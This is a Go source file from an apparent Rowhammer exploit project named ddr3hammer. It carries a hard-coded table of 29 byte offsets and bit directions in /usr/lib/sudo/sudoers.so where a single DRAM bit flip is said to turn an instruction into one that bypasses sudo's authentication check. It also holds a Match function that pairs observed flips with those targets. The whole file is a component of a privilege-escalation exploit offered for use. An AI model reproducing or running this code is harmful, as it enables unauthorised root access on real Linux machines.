// This file is part of ddr3hammer.
//
// ddr3hammer is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// ddr3hammer is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with ddr3hammer.  If not, see <https://www.gnu.org/licenses/>.

// Package opcode holds the precomputed table of exploitable bit flips: byte
// offsets inside /usr/lib/sudo/sudoers.so at which flipping a single known
// bit, in a known direction, turns a benign instruction into one that
// bypasses an authentication check. The table itself is the output of prior,
// out-of-scope reverse engineering; this package only carries it.
package opcode

// Direction is the sense in which a bit flip must occur for an opcode entry
// to match an observed flip.
type Direction uint8

const (
	// ZeroToOne matches a byte whose bit was 0 and observed as 1.
	ZeroToOne Direction = iota
	// OneToZero matches a byte whose bit was 1 and observed as 0.
	OneToZero
)

// String implements fmt.Stringer so Direction reads naturally in log output.
func (d Direction) String() string {
	if d == ZeroToOne {
		return "0->1"
	}
	return "1->0"
}

// Entry describes one exploitable opcode byte.
type Entry struct {
	// FileOffset is the byte offset within sudoers.so.
	FileOffset uint32

	// BitIndex is the bit, within that byte, which must flip.
	BitIndex uint8

	// Dir is the direction the flip must occur in to be useful.
	Dir Direction
}

// NumEntries is the size of Table, named so call sites don't need to take
// len(Table) just to size a companion array.
const NumEntries = 29

// Table is the fixed, process-wide set of exploitable opcode bytes, a literal
// transcription of the reverse-engineered offsets against
// /usr/lib/sudo/sudoers.so.
var Table = [NumEntries]Entry{
	{FileOffset: 0x8c1c, BitIndex: 4, Dir: OneToZero},
	{FileOffset: 0x8c32, BitIndex: 3, Dir: OneToZero},
	{FileOffset: 0x8d4e, BitIndex: 0, Dir: ZeroToOne},
	{FileOffset: 0x8d4f, BitIndex: 0, Dir: OneToZero},
	{FileOffset: 0x8d59, BitIndex: 0, Dir: ZeroToOne},
	{FileOffset: 0x8d59, BitIndex: 1, Dir: ZeroToOne},
	{FileOffset: 0x8d59, BitIndex: 2, Dir: ZeroToOne},
	{FileOffset: 0x8d59, BitIndex: 3, Dir: OneToZero},
	{FileOffset: 0x8d59, BitIndex: 6, Dir: OneToZero},
	{FileOffset: 0x8d5a, BitIndex: 5, Dir: ZeroToOne},
	{FileOffset: 0x8d5d, BitIndex: 7, Dir: ZeroToOne},
	{FileOffset: 0x8d5e, BitIndex: 0, Dir: ZeroToOne},
	{FileOffset: 0x8d5f, BitIndex: 0, Dir: OneToZero},
	{FileOffset: 0x8dbd, BitIndex: 3, Dir: ZeroToOne},
	{FileOffset: 0x8dbd, BitIndex: 7, Dir: OneToZero},
	{FileOffset: 0x8dbf, BitIndex: 0, Dir: OneToZero},
	{FileOffset: 0x8dbf, BitIndex: 3, Dir: ZeroToOne},
	{FileOffset: 0x8dc4, BitIndex: 3, Dir: OneToZero},
	{FileOffset: 0x8dc5, BitIndex: 1, Dir: ZeroToOne},
	{FileOffset: 0x8dc5, BitIndex: 2, Dir: ZeroToOne},
	{FileOffset: 0x8dc9, BitIndex: 3, Dir: ZeroToOne},
	{FileOffset: 0x8dc9, BitIndex: 4, Dir: ZeroToOne},
	{FileOffset: 0x8dca, BitIndex: 7, Dir: OneToZero},
	{FileOffset: 0x8dcb, BitIndex: 3, Dir: ZeroToOne},
	{FileOffset: 0x8dcf, BitIndex: 0, Dir: ZeroToOne},
	{FileOffset: 0x8dcf, BitIndex: 3, Dir: ZeroToOne},
	{FileOffset: 0x8dd0, BitIndex: 2, Dir: OneToZero},
	{FileOffset: 0x8dd1, BitIndex: 0, Dir: OneToZero},
	{FileOffset: 0x8e23, BitIndex: 6, Dir: OneToZero},
}

// Match reports whether a byte observed at the given virtual offset, with
// value observed (having started from either 0x00 or 0xFF depending on
// dir), matches some entry in Table modulo the page size. It returns the
// matching entry and true, or the zero Entry and false.
func Match(observedOffset uint64, pageSize uint64, observed byte, dir Direction) (Entry, bool) {
	for _, e := range Table {
		if e.Dir != dir {
			continue
		}
		if (observedOffset-uint64(e.FileOffset))%pageSize != 0 {
			continue
		}
		var base byte
		if dir == OneToZero {
			base = 0xFF
		}
		if base^(1<<e.BitIndex) == observed {
			return e, true
		}
	}
	return Entry{}, false
}
